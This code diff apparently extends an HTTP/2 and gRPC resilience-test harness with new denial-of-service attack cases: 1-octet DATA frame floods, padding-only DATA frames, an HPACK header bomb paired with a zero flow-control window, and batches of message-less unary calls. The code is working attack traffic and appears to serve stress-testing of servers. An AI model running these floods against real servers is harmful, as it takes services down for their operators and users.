@@ -120,6 +120,12 @@ function dataFrames(streamId: number, data: Buffer, endStream: boolean): Buffer 
   return Buffer.concat(frames);
 }
 
+/** The prefix of a gRPC message of 4 MiB − 1 octets (under the default receive limit), whose body then trickles in. */
+const LARGE_PREFIX = Buffer.from([0, 0x00, 0x3f, 0xff, 0xff]);
+
+/** A request under the 16 KiB header-list limit, mostly three references to the x-bomb entry (12 KB decoded from 3 octets). */
+const bombRequest = () => Buffer.concat([plainRequestBlock(), Buffer.alloc(3, 0xbe)]);
+
 export const ATTACKS: Attack[] = [
   flood('continuation-flood', 'HEADERS without END_HEADERS, then empty CONTINUATION frames without end (CVE-2024-27316)', {},
     (a) => a.headers(1, PI_REQUEST, false, false),
@@ -172,6 +178,35 @@ export const ATTACKS: Attack[] = [
   },
   flood('decompression-bomb', 'gzip messages of 64 MiB of zeros (64 KiB on the wire)', {}, none,
     (a, i) => Buffer.concat([a.headers(1 + 2 * i, [...PI_REQUEST, ['grpc-encoding', 'gzip']], false), dataFrames(1 + 2 * i, gzipBomb(), true)]), 1, 20),
+  flood('data-1-octet', 'a call whose 4 MiB message comes as 1-octet DATA frames, as fast as they go (gRPC-Go CVE-2026-84304 class)', {},
+    (a) => Buffer.concat([a.headers(1, PI_REQUEST, false), encodeFrame({ type: FrameType.DATA, streamId: 1, endStream: false, data: LARGE_PREFIX })]),
+    () => repeated({ type: FrameType.DATA, streamId: 1, endStream: false, data: Buffer.from([0x61]) }, 1000), 1000),
+  flood('data-padded-empty', 'a call open, then PADDED DATA frames carrying only padding', {}, openCall,
+    () => repeated({ type: FrameType.DATA, streamId: 1, endStream: false, data: new Uint8Array(0), padding: 200 }, 1000), 1000),
+  flood('header-bomb-zero-window', 'SETTINGS_INITIAL_WINDOW_SIZE 0, then pi calls of 12 KB header lists (3 octets of HPACK each) whose answers can never be sent ("HTTP/2 Bomb", 2026)', { settings: [[4, 0]] },
+    () => encodeFrame({ type: FrameType.HEADERS, streamId: 1, endStream: false, endHeaders: true, headerBlock: Buffer.concat([plainRequestBlock(), BOMB_ENTRY]) }),
+    (_a, i) => Buffer.concat([
+      encodeFrame({ type: FrameType.HEADERS, streamId: 3 + 2 * i, endStream: false, endHeaders: true, headerBlock: bombRequest() }),
+      encodeFrame({ type: FrameType.DATA, streamId: 3 + 2 * i, endStream: true, data: PI_MESSAGE }),
+    ]), 1, 3000),
+  {
+    name: 'requests-without-message',
+    what: '20,000 unary calls whose HEADERS carry END_STREAM (no message at all), 200 at a time',
+    async run(port, until) {
+      const a = await Attacker.connect(port);
+      let sent = 0;
+      const settled = () => (a.grpcStatuses.get('12') ?? 0) + (a.resets.get(7) ?? 0) >= sent;
+      // 200 at a time, the next batch once the last was answered: within SETTINGS_MAX_CONCURRENT_STREAMS if calls end
+      for (let batch = 0; batch < 100 && Date.now() < until && !a.closed; batch++) {
+        const frames = Array.from({ length: 200 }, (_, i) => a.headers(1 + 2 * (sent + i), PI_REQUEST, true));
+        if (!(await a.write(Buffer.concat(frames), until))) break;
+        sent += 200;
+        while (Date.now() < until && !a.closed && !settled()) await new Promise((r) => setTimeout(r, 1));
+      }
+      a.destroy();
+      return result(a, sent);
+    },
+  },
   many('slowloris-idle', '1000 connections that complete the handshake and stay idle', 1000, () => Buffer.alloc(0)),
   many('slowloris-call', '1000 connections that each open a call whose message never comes', 1000, openCall),
 ];
